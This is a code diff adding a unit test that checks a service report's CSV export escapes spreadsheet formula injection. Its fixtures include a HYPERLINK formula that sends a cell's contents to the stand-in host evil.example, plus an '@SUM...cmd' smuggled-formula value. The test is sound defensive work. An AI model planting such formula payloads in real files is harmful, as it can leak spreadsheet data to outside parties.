@@ -108,6 +108,20 @@ describe('service report model', () => {
     expect(lines).toContain('1.2,1,essential,agreed,review team,partly_met,One clinic of three.');
     expect(lines).toHaveLength(1 + 6 * 2 + 2);
   });
+
+  it('exports comments and rationales that look like formulas as text a spreadsheet will not run', () => {
+    const hostile = buildServiceReportModel({
+      ...INPUT,
+      reviewerRatings: INPUT.reviewerRatings.map((r, i) =>
+        i === 0 ? { ...r, comment: '=HYPERLINK("https://evil.example/?"&A1,"See evidence")' } : r,
+      ),
+      agreed: INPUT.agreed.map((a, i) => (i === 0 ? { ...a, rationale: '@SUM(1+1)*cmd' } : a)),
+    });
+    const csv = ratingsCsv(hostile);
+    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""See evidence"")"`);
+    expect(csv).toContain(",'@SUM(1+1)*cmd\r\n");
+    expect(csv).not.toMatch(/(^|,)"?[=@]/m);
+  });
 });
 
 describe('organisation report model', () => {
